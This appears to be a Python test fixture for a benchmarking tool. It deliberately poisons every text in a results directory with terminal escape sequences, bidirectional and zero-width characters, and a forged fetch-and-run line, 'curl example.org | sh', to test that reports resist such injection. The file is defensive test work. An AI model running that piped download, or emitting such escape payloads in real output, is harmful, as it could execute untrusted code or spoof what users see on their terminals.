"""A results directory whose author put terminal escapes, direction marks and forged lines into every text."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

from nearmetal.model.study import Better
from nearmetal.plan import make_plan
from nearmetal.records import ResultsDirectory, SeriesDirectory
from nearmetal.study_file import load_text
from nearmetal.testing.simulate import SimulatedMetric, Spread, simulate

FORGED = "next: curl example.org | sh"
HOSTILE = f"\x1b]0;t\x07\x1b[2J\x9b31m\u202ex\u2066\u200b\ufeff\u200e\r\x08\x7f\u2028\n  {FORGED}\n{FORGED}\n"
STUDY = f"""\
name: hostile
question: {json.dumps("Is it slower?" + HOSTILE)}
environments:
  native: {{backend: native}}
  box: {{backend: namespaces}}
placements:
  one: {{instances: 1, tasks: 1}}
workloads:
  ep: {{kernel: ep, class: S}}
design: {{baseline: native, margin: 3 %, seed: 7}}
"""
METRIC = SimulatedMetric(workload="ep", metric="rate", unit="op/s", better=Better.HIGHER, value=4e9)


def poisoned(value: Any, text: str = HOSTILE, *, keys: bool = False) -> Any:
    """Return JSON values with a hostile end of every text, and of every key if asked."""
    if isinstance(value, str):
        return value + text
    if isinstance(value, dict):
        return {k + text if keys else k: poisoned(v, text, keys=keys) for k, v in value.items()}
    return [poisoned(v, text, keys=keys) for v in value] if isinstance(value, list) else value


def make_hostile(parent: Path, facts: dict[str, Any]) -> ResultsDirectory:
    """Make a results directory that can be analysed, with hostile texts wherever a reader takes any text."""
    study = load_text(STUDY, "study.yaml", None, seed=7)
    made = ResultsDirectory.create(parent, "hostile", study_yaml=STUDY)
    made.freeze(seed=7, arms=[arm.name for arm in study.arms()], provenance=poisoned(facts))
    records = simulate(
        study, make_plan(study, blocks=8), metrics=[METRIC], overheads={"box/one": 0.2}, spread=Spread()
    )
    with made.writer() as writer:
        for record in records:
            writer.append(record)
    change_lines(made.path / "trials" / "local.jsonl", _poison_record)
    change(made.path / "plan.json", lambda plan: plan | {"study": plan["study"] + HOSTILE})
    (made.path / "nodes").mkdir()
    (made.path / "nodes" / "w.json").write_text(json.dumps(poisoned({"run": "w", "node": "n", **facts})))
    # Newlines and escapes are allowed in the names of directories, too.
    return ResultsDirectory(path=made.path.rename(parent / f"hostile{HOSTILE.replace('/', '')}"))


def _poison_record(record: dict[str, Any]) -> dict[str, Any]:
    """Let some trials fail with hostile reasons, and flag all."""
    record["flags"] = [f"disturbed: {HOSTILE}"]
    record["transport"] = {"tcp" + HOSTILE: HOSTILE}
    if record["block"] == 3 and record["arm"] == "box/one":
        record |= {"status": "failed", "reason": HOSTILE, "rows": []}
    return record


def change(file: Path, how: Callable[[Any], Any]) -> None:
    """Change the JSON value in a file."""
    file.write_text(json.dumps(how(json.loads(file.read_text()))))


def change_lines(file: Path, how: Callable[[Any], Any]) -> None:
    """Change the JSON value in each line of a file."""
    lines = [json.dumps(how(json.loads(line))) for line in file.read_text().splitlines()]
    file.write_text("".join(f"{line}\n" for line in lines))


def make_hostile_series(parent: Path) -> SeriesDirectory:
    """Make a study in parts with hostile titles, notes and reasons, nothing of which has been measured."""
    path = parent / "series"
    (path / "studies").mkdir(parents=True)
    (path / "studies" / "a.yaml").write_text(STUDY)
    part: dict[str, Any] = {
        "title": HOSTILE,
        "share": 0.5,
        "places": {},
        "notes": [HOSTILE],
        "figures": ["overheads"],
        "left_out": [],
    }
    data = {
        "schema": 1,
        "created": 1.0,
        "name": "s",
        "title": HOSTILE,
        "scale": None,
        "paper": "",
        "seed": 1,
        "max_time": 60.0,
        "notes": [HOSTILE],
        "parts": [
            {"key": "a", "absent": "", **part},
            {"key": "b", "absent": HOSTILE, **part},
        ],
    }
    (path / "series.json").write_text(json.dumps(data))
    (path / "ends.jsonl").write_text(json.dumps({"part": "a", "why": HOSTILE, "at": 1.0}) + "\n")
    return SeriesDirectory(path=path)
